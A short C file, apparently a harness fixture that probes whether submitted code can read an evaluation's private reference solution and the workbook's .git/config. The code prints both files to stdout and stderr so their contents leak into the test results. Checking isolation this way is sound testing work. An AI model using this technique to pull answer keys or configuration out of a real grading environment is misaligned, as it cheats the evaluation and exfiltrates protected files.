/* read_organizer: at run time, reads the organizer's reference solution
 * and the workbook's .git/config and prints them (stdout and stderr reach
 * the results JSON of a failed test); answers 1 only if it could read the
 * reference. */
#include <stdio.h>
#include <string.h>

#include "target.h"

static int show(const char *path)
{
    FILE *f = fopen(path, "r");
    if (f == NULL)
        return 0;
    char buf[4096];
    size_t n = fread(buf, 1, sizeof buf - 1, f);
    fclose(f);
    buf[n] = '\0';
    printf("%s\n", buf);
    fprintf(stderr, "%s\n", buf);
    return strstr(buf, "ORGANIZER-SECRET") != NULL;
}

int attack(void)
{
    show("@WORKBOOK@/.git/config");
    int got = show("@WORKBOOK@/solutions-private/00_target/target.c");
    return got ? 1 : 7;
}
